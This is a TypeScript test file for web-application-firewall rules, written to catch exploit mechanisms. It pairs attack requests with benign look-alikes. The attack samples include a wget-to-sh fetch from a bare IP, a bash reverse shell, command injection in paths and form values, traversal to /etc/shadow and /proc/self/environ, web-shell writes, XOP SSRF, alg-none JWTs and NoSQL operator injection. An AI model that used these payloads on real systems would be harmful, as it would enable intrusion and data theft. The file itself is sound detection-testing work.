/**
 * Bundled rules of rev 2026-12-05e (issue 18): the mechanisms held-out-6's misses showed, written for the
 * class of exploit rather than the product — an exploit line as the code of a notebook paragraph, cell or
 * flow command, an nginx directive injected into a rendered configuration, a command in a path segment, a
 * bare probe between shell separators inside a value, a path that continues into /etc or /proc, a traversal
 * that writes a server script into a web root, an XOP Include of a URL, an alg-none JWT, and a server-side
 * code operator as a query key. Each fires on its attack, sent the way the exploit sends it, and stays quiet
 * on the benign text closest to it (a CI script piping an install script into sh, an nginx snippet in a
 * question, a matrix parameter, a config file served from /static/etc/, a signed JWT, `$where` in prose).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, header, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const path = (url: string): RequestSpec => ({ url });
const bearer = (token: string): RequestSpec => header('Authorization', `Bearer ${token}`);
/** A JWT of the given header and claims; the signature segment as given ('' for an unsigned token). */
const jwt = (head: object, claims: object, signature: string): string =>
  `${Buffer.from(JSON.stringify(head)).toString('base64url')}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${signature}`;
const mtom = (href: string): RequestSpec => ({
  method: 'POST',
  url: '/services/DocumentService',
  headers: [...BROWSER, ['Content-Type', 'multipart/related; type="application/xop+xml"; boundary="uuid:1"; start="<root@x>"']],
  body: `--uuid:1\r\nContent-Type: application/xop+xml; type="text/xml"\r\nContent-ID: <root@x>\r\n\r\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><submit><data><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="${href}"/></data></submit></soap:Body></soap:Envelope>\r\n--uuid:1--\r\n`,
});

const CASES: RuleCase[] = [
  [9000326, 'block', 'a Zeppelin %sh paragraph running a probe', json('{"title":"p1","text":"%sh\\nid\\n","index":0}'), json('{"title":"p1","text":"%sh\\nls -la data/\\n","index":0}')],
  [9000326, 'block', 'a Jupyter ! cell fetching from a bare IP', json('{"type":"notebook","content":{"cells":[{"cell_type":"code","source":"!wget -q -O- http://203.0.113.9/a|sh"}]}}'), json('{"type":"notebook","content":{"cells":[{"cell_type":"code","source":"!pip install pandas"}]}}')],
  [9000326, 'block', 'a flow node command opening a reverse shell', json('[{"id":"a1","type":"exec","command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","addpay":""}]'), json('{"script":["curl -fsSL https://get.example.dev/install.sh | sh","make test"]}')],
  [9000327, 'block', 'ssl_engine from /proc after a line break in an annotation', json('{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/auth-url":"http://x/#;}}\\nssl_engine /proc/42/fd/7;\\n#"}}}'), json('{"body":"Which nginx directive sets the OpenSSL engine? I read about ssl_engine in the docs."}')],
  [9000328, 'block', 'a pipe and nslookup in a path segment', path('/kylin/api/cubes/c1/learn_kylin%7Cnslookup%20x1.oast.example.test%7C/migrate'), path('/catalog/shoes;color=red/size;id=42/list')],
  [9000328, 'block', 'an echo of a marker in backticks in a path segment', path('/kylin/api/cubes/c1/learn_kylin%60echo%20m4rk3r%60/migrate'), path('/docs/shell/echo-command/usage')],
  [9000329, 'block', 'a probe between separators closed by a comment in an XML value', xml('<item><key>file_name</key><value>deck.pptx;hostname;#</value></item>'), xml('<item><key>file_name</key><value>deck;v2;final.pptx</value></item>')],
  [9000329, 'block', 'a probe between encoded separators in a form value', form('AddMAC=c9b6f1d07f2b%3Bid%3B&AddIP=192.168.0.150'), form('ids=12%3B13%3B14&note=id%3A+whoami+on+the+team+page')],
  [9000409, 'block', 'a library route continuing into /etc/…/authentication.ini', path('/icingaweb2/lib/icinga/icinga-php-library/etc/icingaweb2/authentication.ini'), path('/static/etc/theme/colors.css')],
  [9000409, 'block', 'a library route continuing into /proc/self/environ', path('/lib/icinga/icinga-php-thirdparty/proc/self/environ'), path('/docs/linux/proc/self/environ-explained')],
  // rev 2: a repository browser's or a wiki's page under etc/ is not a file-system route.
  [9000409, 'block', 'a route continuing into /etc/shadow', path('/static/..;/etc/shadow'), path('/acme/infra/blob/main/roles/web/files/etc/nginx/nginx.conf')],
  [9000409, 'block', 'the Icinga library route continuing into /etc', path('/lib/icinga/icinga-php-thirdparty/etc/hosts'), path('/gitea/ops/src/branch/master/etc/app/config.ini')],
  [9000410, 'block', 'a log file name traversing into webapps/ROOT as a .jsp', xml('<handler type="java:org.apache.axis.handlers.LogHandler"><parameter name="LogHandler.fileName" value="../webapps/ROOT/s1.jsp"/></handler>'), xml('<handler><parameter name="LogHandler.fileName" value="../logs/axis.log"/></handler>')],
  [9000410, 'block', 'a quoted value starting at the web root', xml('<parameter name="LogHandler.fileName" value="webapps/ROOT/s1.jsp"/>'), json('{"body":"Deploy by copying the WAR to webapps/ and open webapps/ROOT/index.jsp in the docs."}')],
  // rev 2: an absolute path in a quoted value is a stack frame's or a config's file, not a web-root-relative write.
  [9000410, 'block', 'a quoted value starting at htdocs in JSON', json('{"logFile":"htdocs/uploads/s.php"}'), json('{"frames":[{"filename":"/var/www/html/app/Http/Controllers/OrderController.php","lineno":57}]}')],
  [9000527, 'block', 'an XOP Include of an http URL', mtom('http://127.0.0.1:8080/'), mtom('cid:part1@example.test')],
  [9001342, 'block', 'an unsigned alg-none JWT as a bearer token', bearer(jwt({ alg: 'none', typ: 'JWT' }, { sub: 'admin', role: 'admin' }, '')), bearer(jwt({ alg: 'HS256', typ: 'JWT' }, { sub: 'u1' }, 'c2lnbmF0dXJl'))],
  [9001342, 'block', 'an alg NoNe JWT (kept signature) after another header key', bearer(jwt({ typ: 'JWT', alg: 'NoNe' }, { sub: '1' }, 'c2lnbmF0dXJl')), bearer(jwt({ typ: 'JWT', alg: 'RS256', kid: 'none' }, { sub: 'none' }, 'c2lnbmF0dXJl'))],
  [9001343, 'block', 'a $func operator as the user in a JSON login', json('{"auth":{"user":{"$func":"var_dump"},"password":[0]}}'), json('{"body":"In MongoDB, $where runs JavaScript; avoid it.","price":{"$gte":10}}')],
  [9001343, 'block', 'a [$where] bracket parameter in a form', form('user[$where]=sleep(5000)&password=x'), form('filter[status]=open&sort=-created')],
];

describe("bundled rules for held-out-6's exploit mechanisms (rev 2026-12-05e)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
